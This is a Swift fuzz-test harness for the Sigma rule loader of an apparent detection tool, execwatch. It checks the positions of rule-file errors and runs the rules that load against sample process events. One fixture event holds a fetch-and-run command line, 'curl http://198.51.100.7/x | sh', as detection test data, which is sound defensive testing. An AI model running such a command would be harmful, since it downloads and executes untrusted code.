// Sigma rule files (`*.yml`/`*.yaml` in `--rules`, rules.d, `execwatch rules check`): YAML documents
// with logsource, detection, condition and metadata, and correlation documents (event_count,
// value_count, temporal and temporal_ordered run, with aliases; the others are refused). Rules
// that load are run on two events; errors must name a position inside the file.
import ExecEvents
import FuzzSupport
import RuleEngine

/// A second event unlike `FuzzEvents.netcat`: another user, image and command line, so that
/// selections, `not` and field modifiers evaluate both ways.
let shellEvent = ExecEvent(
    eventTime: EventTime(millisecondsSinceEpoch: 1_795_860_001_456),
    hostName: "db-2",
    user: "root",
    procName: "bash",
    swParam: "-c 'curl http://198.51.100.7/x | sh'",
    procId: 777,
    parentProcId: 4242,
    exePath: "/usr/bin/bash",
    uid: 0,
    args: [Array("bash".utf8), Array("-c".utf8), Array("curl http://198.51.100.7/x | sh".utf8)]
)

/// The lines of `bytes` as YAML 1.1 (and libyaml) counts them: a line break is LF, CR, CR LF,
/// NEL (U+0085), LS (U+2028) or PS (U+2029). A file with bare CRs thus has more lines for the
/// rules' errors than `grep -c` shows.
func yamlLineCount(_ bytes: [UInt8]) -> Int {
    var lines = 1
    var index = 0
    while index < bytes.count {
        switch bytes[index] {
        case 0x0A: lines += 1
        case 0x0D where index + 1 >= bytes.count || bytes[index + 1] != 0x0A: lines += 1
        case 0xC2 where index + 1 < bytes.count && bytes[index + 1] == 0x85: lines += 1
        case 0xE2 where index + 2 < bytes.count && bytes[index + 1] == 0x80 && (bytes[index + 2] | 1) == 0xA9:
            lines += 1
        default: break
        }
        index += 1
    }
    return lines
}

@_cdecl("LLVMFuzzerTestOneInput")
public func testOneInput(_ data: UnsafePointer<UInt8>?, _ size: Int) -> CInt {
    let input = FuzzInput(data, size)
    let result = RuleLoader.load(documents: [(file: "fuzz.yml", bytes: input.array)])
    let lines = yamlLineCount(input.array)
    for error in result.errors + result.skipped {
        _ = error.description
        // Line and column 0 say the problem concerns the whole file (an empty file, no document).
        if error.line == 0 && error.column == 0 { continue }
        fuzzCheck(error.line >= 1 && error.line <= lines, "error line \(error.line) of \(lines): \(error)")
        fuzzCheck(error.column >= 1, "error column \(error.column): \(error)")
    }
    guard !result.rules.isEmpty else { return 0 }
    var engine = DetectionEngine(rules: result.rules, configuration: EngineConfiguration(agentId: "fuzz"))
    for (step, base) in [FuzzEvents.netcat, shellEvent, FuzzEvents.netcat].enumerated() {
        var event = base
        event.eventTime = EventTime(millisecondsSinceEpoch: event.eventTime.millisecondsSinceEpoch + Int64(step) * 1000)
        for update in engine.process(event) { _ = update.incident.jsonLine }
    }
    return 0
}

FuzzDriver.run(testOneInput)
